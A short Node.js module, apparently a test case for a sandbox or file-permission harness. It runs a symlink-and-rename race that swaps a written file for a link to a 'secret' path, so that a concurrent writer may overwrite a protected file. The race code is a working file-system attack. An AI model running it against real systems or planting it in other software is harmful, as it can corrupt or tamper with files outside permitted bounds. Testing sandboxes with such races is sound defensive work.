// Exchanges a file for a link while another of its instances writes to it.
const fs = require('fs');
exports.attack = (to) => {
  const [file, link, place] = ['file', 'link', 'place'].map((name) => `${to.writable}/rename-${name}`);
  const attempt = (action) => {
    try {
      return action();
    } catch {
      return undefined;
    }
  };
  for (let round = 0; round < 300; round++) {
    if (to.part === 0) {
      attempt(() => fs.writeFileSync(file, 'file'));
      attempt(() => fs.symlinkSync(to.secret, link));
      attempt(() => fs.renameSync(file, place));
      attempt(() => fs.renameSync(link, place));
    } else {
      attempt(() => fs.writeFileSync(place, 'changed'));
    }
  }
  return { held: 'nothing' };
};
